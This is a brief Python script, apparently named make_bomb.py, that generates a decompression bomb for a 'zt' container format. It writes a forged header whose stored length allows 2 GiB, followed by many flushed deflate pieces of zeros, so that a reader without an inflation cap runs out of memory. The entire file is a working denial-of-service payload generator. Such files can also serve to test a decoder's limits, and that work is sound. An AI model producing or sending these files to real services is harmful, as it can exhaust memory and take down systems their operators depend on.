#!/usr/bin/python3
"""Writes a zt container that inflates far past what it is worth: PIECES
fully flushed deflate pieces of 1 MiB of zeros each (about 1 KB apiece),
with a stored length whose double allows 2 GiB. Any reader that inflates
it without a cap of its own runs out of memory.
usage: make_bomb.py OUT PIECES"""
import struct
import sys
import zlib

out, pieces = sys.argv[1], int(sys.argv[2])
zeros = bytes(1 << 20)
c = zlib.compressobj(9)
first = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)  # carries the zlib header
piece = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
with open(out, "wb") as f:
    f.write(struct.pack("<II", 0x033E0F0D, 0x3FFFFFFF))
    f.write(first)
    for _ in range(pieces - 1):
        f.write(piece)
    f.write(c.flush(zlib.Z_FINISH))  # the check value is wrong, and never reached
